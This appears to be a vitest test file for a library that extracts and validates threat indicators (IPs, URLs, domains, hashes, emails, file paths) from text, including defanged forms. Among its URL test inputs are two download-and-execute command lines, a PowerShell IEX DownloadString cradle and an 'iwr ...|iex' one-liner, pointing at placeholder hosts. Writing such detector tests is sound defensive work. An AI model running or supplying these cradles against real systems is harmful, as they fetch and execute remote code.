import { describe, expect, it } from 'vitest';
import { extractIndicators } from './extract.js';
import { defang, refang } from './refang.js';
import { scanIndicators } from './scan.js';
import { iocType, validateIndicator } from './validate.js';

const PROCESS = String.raw`c:\one\path\or\another\myprocess`;
const HASH = '00236a2ae558018ed13b5222ef1bd9';
/** The texts over which the original's tests count indicators. */
const CASES = {
  ipv4: `${PROCESS} -ip4:206.123.1.123`,
  ipv6: `${PROCESS} -ip6:(2001:0db8:85a3:0000:0000:8a2e:0370:7334,
    2001:db8:85a3:0:0:8a2e:370:7334,2001:db8:85a3::8a2e:370:7334,::ffff:192.0.2.128)`,
  url: `${PROCESS} /url:https://some.domain.it/thepath?qry1=abc&qry2=xyz
        /url:https://myuser@some.domain.es:88/thepath?qry1=abc&qry2=xyz"<some other trailing stuff`,
  windowsPath: String.raw`${PROCESS} -file:"..\another\file" -file:"\\uncpath\file"`,
  linuxPath: '/bin/bash --file:./bish --file:/bin/bash --file:../../bosh',
  md5: `${HASH}87hash -something-hash=${HASH}88hash -something -hash=${HASH}89`,
  sha1: `${HASH}8700000001hash -something -hash=${HASH}8700000002hash -something -hash=${HASH}8700000003`,
  sha256: `${HASH}8700000001424246789042424678901234hash -hash=${HASH}8700000001424246789042424678901235hash -something
-hash=${HASH}8700000001424246789042424678901236`,
  url2: "curl 'https://www.virustotal.com/en/ip-address/90.156.201.27/information/'",
  domain: 'some text with a domain.like.uk in it',
  noDomain: 'some text with a bad domain.like.iandom in it',
  shortDomain: 'some text with a microsoft.com in it',
  email: 'some text with user@microsoft.com in it',
  email2: 'some text with User <user@microsoft.com> in it',
  email3: 'some text with user@microsoft.com (User XYZ)> in it',
  email4: 'some text with user@abc.def.net> in it',
} as const;

const modes = [{}, { parity: 'msticpy' }] as const;
const of = (text: string, type: string, options = {}) =>
  scanIndicators(text, options)
    .filter((indicator) => indicator.type === type)
    .map(({ observable }) => observable);

describe.each(modes)('the counts of the original, with %o', (mode) => {
  it.each([
    ['ipv4', { ipv4: 1 }],
    ['ipv6', { ipv6: 3 }],
    ['url', { url: 2, dns: 2, ipv4: 0 }],
    ['url2', { url: 1, dns: 1, ipv4: 1 }],
    ['windowsPath', { windows_path: 3 }],
    ['linuxPath', { linux_path: 3 }],
    ['md5', { md5_hash: 3 }],
    ['sha1', { sha1_hash: 3 }],
    ['sha256', { sha256_hash: 3 }],
    ['domain', { dns: 1 }],
    ['noDomain', { dns: 0 }],
    ['shortDomain', { dns: 1 }],
    ['email', { email: 1 }],
    ['email2', { email: 1 }],
    ['email3', { email: 1 }],
    ['email4', { email: 1 }],
  ] as const)('hold for one text: %s', (name, expected) => {
    for (const [type, count] of Object.entries(expected)) expect(of(CASES[name], type, mode)).toHaveLength(count);
  });

  it('hold for a column', () => {
    const column = Object.values(CASES);
    const count = (types: readonly string[] | undefined, includePaths: boolean) => {
      const { IoCType } = extractIndicators([column], { ...mode, includePaths, ...(types ? { types } : {}) });
      return (type: string) => IoCType.filter((found) => found === type).length;
    };
    const all = count(undefined, true);
    expect([all('ipv4'), all('ipv6'), all('url'), all('windows_path'), all('linux_path')]).toEqual([3, 3, 3, 6, 0]);
    expect([all('md5_hash'), all('sha1_hash'), all('sha256_hash')]).toEqual([3, 3, 3]);
    const chosen = count(['ipv4', 'ipv6', 'url', 'linux_path', 'md5_hash', 'sha1_hash', 'sha256_hash'], true);
    expect([chosen('ipv4'), chosen('ipv6'), chosen('url'), chosen('linux_path')]).toEqual([3, 3, 3, 8]);
    expect([chosen('windows_path'), chosen('md5_hash')]).toEqual([0, 3]);
  });
});

describe('defanged text', () => {
  it('gives working observables and keeps the raw text', () => {
    expect(scanIndicators('see evil[.]com', { types: ['dns'] })).toEqual([
      { type: 'dns', observable: 'evil.com', raw: 'evil[.]com', start: 4, end: 14 },
    ]);
    expect(of('-ip4:206.123[.]1[.]123', 'ipv4')).toEqual(['206.123.1.123']);
    expect(of('-ip4:206.123[.]1[.]com', 'ipv4')).toEqual([]);
    expect(of('mail user[AT]domain[.]like.uk now', 'email')).toEqual(['user@domain.like.uk']);
    for (const [text, url] of [
      ['hXXps://www.virustotal.com/en/', 'https://www.virustotal.com/en/'],
      ['ftp://www[.]virustotal[.]com/en/', 'ftp://www.virustotal.com/en/'],
      ['sfXp://www.virustotal.com/en/', 'sftp://www.virustotal.com/en/'],
      ['fXps://www[.]virustotal.com/en/', 'ftps://www.virustotal.com/en/'],
      ['telnet://www[.]virustotal.com/en/', 'telnet://www.virustotal.com/en/'],
    ] as const)
      expect(of(`curl '${text}'`, 'url')).toEqual([url]);
  });

  it('stays as it is in parity, and unseen when switched off', () => {
    expect(of('see evil[.]com', 'dns', { parity: 'msticpy' })).toEqual(['evil[.]com']);
    expect(of('206[.]123.1.123', 'ipv4', { defanged: false })).toEqual([]);
  });

  it('comes back from refang', () => {
    for (const [value, type] of [
      ['https://a.example.com/x.y?z=1.2', 'url'],
      ['sftp://a.example.com', 'url'],
      ['8.8.8.8', 'ipv4'],
      ['bob@example.com', 'email'],
    ] as const)
      expect(refang(defang(value, type), type)).toBe(value);
    expect(defang('http://evil.com/a.b', 'url')).toBe('hXXp://evil[.]com/a.b');
  });
});

describe('addresses', () => {
  it('have octets, and are not a part of a longer number', () => {
    expect(of('999.888.777.666 1.2.3.4.5 10.0.19041.1 1.2.3.256', 'ipv4')).toEqual([]);
    expect(of('at 1.2.3.4. And (10.0.0.255:80)', 'ipv4')).toEqual(['1.2.3.4', '10.0.0.255']);
    expect(of('999.888.777.666 1.2.3.4.5', 'ipv4', { parity: 'msticpy' })).toEqual(['999.888.777.666', '1.2.3.4']);
  });

  it('are no clock times and no static members', () => {
    const text = 'at 10:20:30 [Convert]::Add ::1 fe80::1 a:b';
    expect(of(text, 'ipv6')).toEqual(['::1', 'fe80::1']);
    expect(of('at 10:20:30', 'ipv6', { parity: 'msticpy' })).toEqual(['10:20:30']);
  });
});

describe('URLs', () => {
  it('end before quotes, brackets and punctuation that close them', () => {
    expect(of(CASES.url2, 'url')).toEqual(['https://www.virustotal.com/en/ip-address/90.156.201.27/information/']);
    expect(of(CASES.url2, 'url', { parity: 'msticpy' })[0]).toMatch(/information\/'$/);
    expect(of("IEX (New-Object Net.WebClient).DownloadString('http://10.10.10.5/a.ps1');x", 'url')).toEqual([
      'http://10.10.10.5/a.ps1',
    ]);
    expect(of('(see http://a.com/x_(y)), or http://b.com.', 'url')).toEqual(['http://a.com/x_(y)', 'http://b.com']);
    expect(of('iwr http://evil.com/a.ps1|iex', 'url')).toEqual(['http://evil.com/a.ps1']);
  });

  it('give every host its type, whatever types were asked for', () => {
    const found = scanIndicators('http://10.1.2.3:8080/a http://evil.com/ http://[2001:db8::1]/x http://intranet/', {
      types: ['url'],
    });
    expect(found.map(({ type, observable }) => [type, observable])).toEqual([
      ['url', 'http://10.1.2.3:8080/a'],
      ['ipv4', '10.1.2.3'],
      ['url', 'http://evil.com/'],
      ['dns', 'evil.com'],
      ['url', 'http://[2001:db8::1]/x'],
      ['ipv6', '2001:db8::1'],
      ['url', 'http://intranet/'],
    ]);
  });

  it('give up the URLs that they hold, encoded or not, in each URL of a text', () => {
    const text = 'http://a.com/ https://safe.example.com/?url=http%3A%2F%2Fevil.com%2Fx&y=1';
    expect(of(text, 'url')).toContain('http://evil.com/x&y=1');
    expect(of(text, 'dns', { types: ['url'] })).toEqual(['a.com', 'safe.example.com', 'evil.com']);
    expect(of('http://a.com/ http://b.com/', 'dns', { types: ['url'], parity: 'msticpy' })).toEqual(['a.com']);
  });

  it('take any case of the scheme', () => {
    expect(of('HTTP://Evil.COM/A', 'url')).toEqual(['HTTP://Evil.COM/A']);
  });
});

describe('hashes', () => {
  const a = 'a'.repeat(32);
  const b = 'b'.repeat(32);
  it('are found also one character apart', () => {
    expect(of(`${a},${b}`, 'md5_hash')).toEqual([a, b]);
    expect(of(`${a},${b}`, 'md5_hash', { parity: 'msticpy' })).toEqual([a]);
    expect(of(`${a}\n${b}`, 'md5_hash', { parity: 'msticpy' })).toEqual([a, b]);
  });
  it('have exactly the length of their type', () => {
    expect(of(`${a}a 0x${b}`, 'md5_hash')).toEqual([b]);
    expect(scanIndicators('c'.repeat(64)).map(({ type }) => type)).toEqual(['sha256_hash']);
  });
});

describe('names', () => {
  it('may look like files, which an option leaves out', () => {
    expect(of('b.ps1 x.py', 'dns')).toEqual(['b.ps', 'x.py']);
    expect(of('b.ps1 x.py www.evil.com', 'dns', { ignore: ['script-names'] })).toEqual(['www.evil.com']);
  });
  it('may be internationalised', () => {
    expect(of('xn--mnchen-3ya.de', 'dns')).toEqual(['xn--mnchen-3ya.de']);
    expect(of('xn--mnchen-3ya.de', 'dns', { parity: 'msticpy' })).toEqual(['mnchen-3ya.de']);
  });
  it('are accepted without a public suffix on request', () => {
    expect(of('host.corp.internalx', 'dns')).toEqual([]);
    expect(of('host.corp.internalx', 'dns', { ignoreTlds: true })).toEqual(['host.corp.internalx']);
  });
});

describe('options', () => {
  it('leave out private and local addresses', () => {
    const text = '10.0.0.1 127.0.0.1 8.8.8.8 ::1 fd00::1';
    expect(scanIndicators(text, { ignore: ['private-addresses'] }).map((i) => i.observable)).toEqual([
      '127.0.0.1',
      '8.8.8.8',
      '::1',
    ]);
    expect(of(text, 'ipv4', { ignore: ['private-addresses', 'local-addresses'] })).toEqual(['8.8.8.8']);
  });

  it('add types of one path, whose matching must be bounded', () => {
    const cve = {
      name: 'cve',
      find: (text: string) => {
        const index = text.indexOf('CVE-');
        return index === -1 ? [] : [{ index, text: text.slice(index, index + 13) }];
      },
    };
    expect(of('see CVE-2021-44228', 'cve', { customTypes: [cve] })).toEqual(['CVE-2021-4422']);
    expect(() =>
      scanIndicators('', { customTypes: [{ name: 'bad', find: /(a+)+$/ as unknown as typeof cve.find }] }),
    ).toThrow(/backtrack/);
    expect(() => scanIndicators('', { types: ['ipv5'] })).toThrow(/ipv5/);
  });
});

describe('columns', () => {
  it('keep the source row and text, and skip nulls', () => {
    expect(
      extractIndicators([
        [null, 'ping 8.8.8.8', ''],
        ['1.1.1.1', undefined],
      ]),
    ).toEqual({
      IoCType: ['ipv4', 'ipv4'],
      Observable: ['1.1.1.1', '8.8.8.8'],
      SourceIndex: [0, 1],
      Input: ['1.1.1.1', 'ping 8.8.8.8'],
      Raw: ['1.1.1.1', '8.8.8.8'],
    });
    expect(() => extractIndicators([])).toThrow(/column/);
  });
});

describe('single values', () => {
  it.each([
    ['8.8.8.8', 'ipv4'],
    ['fe80::1', 'ipv6'],
    ['evil.com', 'dns'],
    ['http://evil.com/x', 'url'],
    ['bob@evil.com', 'email'],
    ['d41d8cd98f00b204e9800998ecf8427e', 'md5_hash'],
    ['C:\\Windows\\notepad.exe', 'windows_path'],
    ['/usr/bin/id', 'linux_path'],
    ['just some text', 'unknown'],
  ])('%s is %s', (value, type) => {
    expect(iocType(value)).toBe(type);
    if (type !== 'unknown') expect(validateIndicator(value, type)).toBe(true);
  });
  it('must fit as a whole', () => {
    expect(validateIndicator('8.8.8.8 ', 'ipv4')).toBe(false);
    expect(validateIndicator('evil.notatld', 'hostname')).toBe(false);
    expect(validateIndicator('a'.repeat(40), 'file_hash')).toBe(true);
    expect(validateIndicator('a'.repeat(41), 'file_hash')).toBe(false);
    expect(() => validateIndicator('x', 'nothing')).toThrow(/nothing/);
  });
});
